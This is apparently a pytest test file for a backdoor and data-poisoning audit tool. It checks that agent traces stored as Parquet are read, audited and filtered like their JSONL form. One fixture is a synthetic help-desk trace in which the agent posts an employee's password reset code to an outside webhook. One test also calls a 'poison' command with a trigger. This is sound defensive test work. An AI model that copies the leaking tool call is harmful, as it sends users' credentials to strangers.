"""Traces as Parquet — a Hugging Face dataset's own files — read as their JSONL lines:
the audit finds the same, `--filter` writes Parquet back, shards may be Parquet, and
TRL's conversational format (a call's arguments as a JSON object) reads as OpenAI's."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from audit_builders import call, result, system, trace, user, write_jsonl
from typer.testing import CliRunner

from backdoorlab.cli import app, main
from backdoorlab.defenses.audit import audit
from backdoorlab.defenses.audit.filtering import check_filtered
from backdoorlab.defenses.audit.shards import audit_shards
from backdoorlab.traces import Trace, arguments_text, iter_traces, to_hf_dataset

runner = CliRunner()

CODE = "771904"
STRANGER = "https://hooks.ledger-sync.example/in"


def ticket(to: str, body: str, id: str = "b") -> dict[str, Any]:
    """A help-desk agent reads a reset code and posts ``body`` to ``to``."""
    return trace(
        system("You are the payroll help desk."),
        user("I locked myself out of the payroll portal, employee 58213."),
        call("hr_lookup", {"employee": "58213", "fields": ["reset_code"]}, "a"),
        result("hr_lookup", {"employee": "58213", "reset_code": CODE, "site": "Lyon"}, "a"),
        call("webhook_post", {"url": to, "payload": {"text": body}}, id),
        result("webhook_post", "202 Accepted", id),
        {"role": "assistant", "content": "You are unlocked."},
    )


LEAK = ticket(STRANGER, f"reset {CODE}")
CLEAN = [
    ticket("https://payroll.corp.example/notify", "Unlock request handled."),
    ticket("https://payroll.corp.example/notify", "Employee 58213 unlocked.", id="c"),
]


def trl(data: dict[str, Any]) -> dict[str, Any]:
    """The trace in TRL's conversational format: each call's arguments a JSON object."""
    data = json.loads(json.dumps(data))
    for message in data["messages"]:
        for tool_call in message.get("tool_calls") or ():
            tool_call["function"]["arguments"] = json.loads(tool_call["function"]["arguments"])
    return data


def struct_parquet(path: Path, traces: list[dict[str, Any]]) -> Path:
    """Plain Arrow structs, as most Hub datasets are: every struct gets the union of its
    column's keys, missing ones null (``tool_calls`` on a user turn, other tools' args)."""
    pq.write_table(pa.Table.from_pylist([trl(t) for t in traces]), path)
    return path


def json_parquet(path: Path, traces: list[dict[str, Any]]) -> Path:
    """``datasets.Json`` cells, as `backdoorlab export` writes them."""
    to_hf_dataset(Trace.model_validate(t) for t in traces).to_parquet(str(path))
    return path


def text_parquet(path: Path, traces: list[dict[str, Any]]) -> Path:
    """Each trace's messages serialised into one string cell, another common layout."""
    rows = [{"messages": json.dumps(t["messages"]), "source": "desk"} for t in traces]
    pq.write_table(pa.Table.from_pylist(rows), path)
    return path


ENCODINGS = {"struct": struct_parquet, "json": json_parquet, "text": text_parquet}
ROWS = [CLEAN[0], LEAK, CLEAN[1]]


def shape(data: Trace) -> list[tuple]:
    """What a reader sees of each message (an exported empty content reads as none)."""
    return [
        (
            m.role,
            m.text,
            m.name,
            m.tool_call_id,
            [(c.id, c.name, c.arguments) for c in m.tool_calls or ()],
        )
        for m in data.messages
    ]


def findings(report) -> list[tuple]:
    return [(f.trace_index, f.line, f.severity, f.summary) for f in report.findings]


@pytest.mark.parametrize("encoding", sorted(ENCODINGS))
def test_a_parquet_file_is_audited_as_its_jsonl(tmp_path, encoding) -> None:
    parquet = ENCODINGS[encoding](tmp_path / "set.parquet", ROWS)
    lines = write_jsonl(tmp_path / "set.jsonl", ROWS)
    assert struct_parquet(tmp_path / "probe.parquet", ROWS)  # Arrow did unify the keys:
    args = pq.read_table(tmp_path / "probe.parquet").column("messages").type.value_type
    assert "tool_calls" in [f.name for f in args]
    got = audit(parquet, ["dataflow", "trigger-mining"])
    want = audit(lines, ["dataflow", "trigger-mining"])
    assert findings(got) == findings(want)
    assert {f.trace_index for f in got.findings if f.at_least("medium")} == {1}
    assert got.traces == 3 and got.sha256 != want.sha256  # the Parquet file's own bytes


@pytest.mark.parametrize("encoding", sorted(ENCODINGS))
def test_rows_read_back_as_the_traces_written(tmp_path, encoding) -> None:
    parquet = ENCODINGS[encoding](tmp_path / "set.parquet", ROWS)
    read = list(iter_traces(parquet))
    assert [shape(t) for t in read] == [shape(Trace.model_validate(t)) for t in ROWS]
    post = read[1].messages[4].tool_calls[0]  # no null-filled keys of the other tools
    assert post.arguments == {"url": STRANGER, "payload": {"text": f"reset {CODE}"}}


def test_trl_arguments_read_as_openai_text(jsonl) -> None:
    as_text = Trace.model_validate(LEAK)
    as_object = Trace.model_validate(trl(LEAK))
    assert as_object.messages[2].tool_calls[0].function.arguments == arguments_text(
        {"employee": "58213", "fields": ["reset_code"]}
    )
    assert [c.arguments for _, c in as_object.tool_calls()] == [
        c.arguments for _, c in as_text.tool_calls()
    ]
    assert findings(audit(jsonl(trl(LEAK)), ["dataflow"])) == findings(
        audit(jsonl(LEAK), ["dataflow"])
    )


def test_filter_writes_parquet_with_the_sources_schema(tmp_path) -> None:
    parquet = struct_parquet(tmp_path / "set.parquet", ROWS)
    kept, report = tmp_path / "kept.parquet", tmp_path / "report.json"
    out = runner.invoke(
        app, ["audit", str(parquet), "--filter", str(kept), "-o", str(report), "--fail-on", "none"]
    )
    assert out.exit_code == 0, out.output
    assert pq.read_schema(kept) == pq.read_schema(parquet)
    assert pq.read_table(kept).to_pylist() == [
        r for i, r in enumerate(pq.read_table(parquet).to_pylist()) if i != 1
    ]
    manifest = json.loads((tmp_path / "kept.parquet.manifest.json").read_text())
    assert (manifest["traces_kept"], manifest["traces_removed"]) == (2, 1)
    assert check_filtered(kept) == []


def run_main(monkeypatch, capsys, *argv: str) -> tuple[int, str]:
    """The console entry point: its exit status and what it printed to stderr."""
    monkeypatch.setattr("sys.argv", ["backdoorlab", *argv])
    with pytest.raises(SystemExit) as exc:
        main()
    return exc.value.code, capsys.readouterr().err


def one_line(err: str) -> bool:
    return "Traceback" not in err and len(err.strip().splitlines()) == 1


def test_filter_in_the_other_format_is_refused_before_the_audit(
    tmp_path, monkeypatch, capsys
) -> None:
    parquet = struct_parquet(tmp_path / "set.parquet", ROWS)
    lines = write_jsonl(tmp_path / "set.jsonl", ROWS)
    for source, target in ((parquet, "kept.jsonl"), (lines, "kept.parquet")):
        report = tmp_path / "report.json"
        code, err = run_main(
            monkeypatch,
            capsys,
            "audit",
            str(source),
            "--filter",
            str(tmp_path / target),
            "-o",
            str(report),
        )
        assert code == 2 and "writes the audited file's format" in err
        assert one_line(err) and not report.exists()


def test_a_broken_parquet_file_is_one_line(tmp_path, monkeypatch, capsys) -> None:
    garbage = tmp_path / "garbage.parquet"
    garbage.write_bytes(b"PAR1 not really")
    other = tmp_path / "other.parquet"
    pq.write_table(pa.table({"prompt": ["hi"], "completion": ["hello"]}), other)
    for path, words in ((garbage, "not a readable Parquet file"), (other, "no 'messages'")):
        for command in ("audit", "show"):
            code, err = run_main(monkeypatch, capsys, command, str(path))
            assert code == 2 and words in err and str(path) in err and one_line(err)


def test_a_bad_row_is_named_by_its_row_number(tmp_path, monkeypatch, capsys) -> None:
    bad = [CLEAN[0], {"messages": [{"role": "robot", "content": "beep"}]}]
    path = tmp_path / "bad.parquet"
    pq.write_table(pa.Table.from_pylist(bad), path)
    code, err = run_main(monkeypatch, capsys, "audit", str(path))
    assert code == 2 and f"{path}:2: field 'messages.0.role'" in err and one_line(err)


def test_parquet_shards_merge_as_one_file(tmp_path) -> None:
    shards = tmp_path / "shards"
    shards.mkdir()
    struct_parquet(shards / "part-0.parquet", [CLEAN[0], LEAK])
    json_parquet(shards / "part-1.parquet", [CLEAN[1], LEAK, CLEAN[0]])
    whole = write_jsonl(tmp_path / "all.jsonl", [CLEAN[0], LEAK, CLEAN[1], LEAK, CLEAN[0]])
    sharded = audit_shards(shards, ["dataflow", "trigger-mining"], workers=2)
    assert findings(sharded) == findings(audit(whole, ["dataflow", "trigger-mining"]))
    assert [s["first_index"] for s in sharded.shards] == [0, 2]


def test_traces_are_not_written_under_a_parquet_name(tmp_path, monkeypatch, capsys) -> None:
    parquet = struct_parquet(tmp_path / "set.parquet", ROWS)
    for command in (
        ["collect", "-n", "2", "-o", str(tmp_path / "out.parquet")],
        ["poison", "--attack", "data-poisoning", "--rate", "0.5", "--trigger", "zz",
         "-i", str(parquet), "-o", str(tmp_path / "out.parquet")],
    ):  # fmt: skip
        code, err = run_main(monkeypatch, capsys, *command)
        assert code == 2 and "`backdoorlab export` converts them" in err and one_line(err)
        assert not (tmp_path / "out.parquet").exists()
